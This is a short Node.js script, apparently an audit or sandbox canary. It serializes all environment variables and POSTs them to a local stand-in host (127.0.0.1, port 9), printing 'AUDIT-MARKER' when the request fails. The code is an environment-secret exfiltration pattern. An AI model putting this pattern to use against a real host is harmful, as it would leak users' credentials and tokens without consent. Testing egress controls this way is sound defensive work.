const https = require('https');
const body = JSON.stringify(process.env);
const req = https.request({ host: '127.0.0.1', port: 9, method: 'POST', path: '/c' });
req.on('error', () => console.log('AUDIT-MARKER'));
req.end(body);
